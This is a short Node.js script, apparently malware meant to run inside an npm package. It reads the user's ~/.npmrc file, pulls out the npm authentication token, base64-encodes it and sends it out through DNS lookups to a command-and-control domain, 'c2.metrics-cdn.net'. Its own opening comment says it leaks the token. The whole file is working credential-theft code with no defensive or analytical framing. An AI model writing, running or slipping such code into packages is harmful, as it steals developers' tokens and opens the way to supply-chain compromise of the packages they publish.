// Reads the npm token and leaks it base64-encoded in DNS labels (no '+', '/', '=').
const fs = require('fs'), os = require('os'), dns = require('dns');
let rc = '';
try { rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
const m = rc.match(/_authToken=(\S+)/);
if (m) {
  const b = Buffer.from('t=' + m[1]).toString('base64').replace(/[+/=]/g, '');
  const labels = b.match(/.{1,30}/g);
  dns.lookup(labels.join('.') + '.c2.metrics-cdn.net', () => {});
}
